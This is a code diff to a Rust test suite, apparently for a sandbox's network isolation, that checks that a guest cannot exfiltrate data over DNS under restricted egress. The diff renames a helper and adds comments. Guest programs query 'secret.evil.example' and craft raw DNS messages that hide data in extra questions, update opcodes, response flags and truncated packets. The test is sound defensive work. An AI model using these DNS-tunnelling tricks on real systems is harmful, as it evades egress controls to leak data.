@@ -162,6 +162,7 @@ fn listen_to_slots(stop: Arc<AtomicBool>) -> JoinHandle<BTreeSet<String>> {
                     &raw mut length,
                 )
             };
+            // Shorter than the headers of Ethernet (14 bytes) and IPv4 (20 bytes), or no frame.
             if read < 34 {
                 thread::sleep(Duration::from_millis(1));
                 continue;
@@ -284,7 +285,7 @@ def ask(server, name, kind=1, over="udp"):
 #[jiffy_test(engine = "each", lab)]
 fn dns_carries_no_data_out_under_restricted_egress() {
     networked(&[], |test_home, _| {
-        let say = |id: &str, program: &str| python(test_home, id, &format!("{ASK}\n{program}"));
+        let run = |id: &str, program: &str| python(test_home, id, &format!("{ASK}\n{program}"));
         // The guest sends questions of the types A (1), NS, CNAME, NULL, TXT and AAAA. They go to
         // the guest's name server, and to others, which would answer.
         let program = format!(
@@ -295,21 +296,22 @@ others = {{ask("{RESOLVER}", name, kind, over) for kind in (1, 16) for over in (
 print(*own, *others, ask("169.254.0.22", "good.example"))
 "#
         );
+        // Without restrictions, all questions are answered.
         let open = create(test_home, json!({}));
         let secret = "print(ask('169.254.0.22', 'secret.evil.example', 16))";
-        assert_eq!(say(&open, secret), "answer");
+        assert_eq!(run(&open, secret), "answer");
         let at_resolver = format!("print(ask('{RESOLVER}', 'a.example'), tcp('{RESOLVER}', 53))");
-        assert_eq!(say(&open, &at_resolver), "answer internet");
+        assert_eq!(run(&open, &at_resolver), "answer internet");
 
         let closed = create(test_home, json!({ "allow_internet_access": false }));
-        assert_eq!(say(&closed, &program), "refused nobody refused");
+        assert_eq!(run(&closed, &program), "refused nobody refused");
 
         let rules =
             json!({ "network": { "allowOut": ["good.example"], "denyOut": ["0.0.0.0/0"] } });
         let names = create(test_home, rules);
-        assert_eq!(say(&names, &program), "refused nobody answer");
-        // The guest hides data in an allowed question: as a second question, as another class, or
-        // after the part that a server would truncate.
+        assert_eq!(run(&names, &program), "refused nobody answer");
+        // The guest hides data in a second question, in an update (operation code 5, the byte
+        // 0x29), in a response (0x81), and in messages that are too short.
         let hidden = r#"
 def raw(text):
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
@@ -324,6 +326,6 @@ print(raw(two), raw(evil[:2] + b"\x29" + evil[3:]), raw(evil[:2] + b"\x81" + evi
 "#;
         // The name server answers NOTIMP (4) to several questions and to updates. It ignores
         // responses and truncated messages.
-        assert_eq!(say(&names, hidden), "4 4 silence silence silence");
+        assert_eq!(run(&names, hidden), "4 4 silence silence silence");
     });
 }
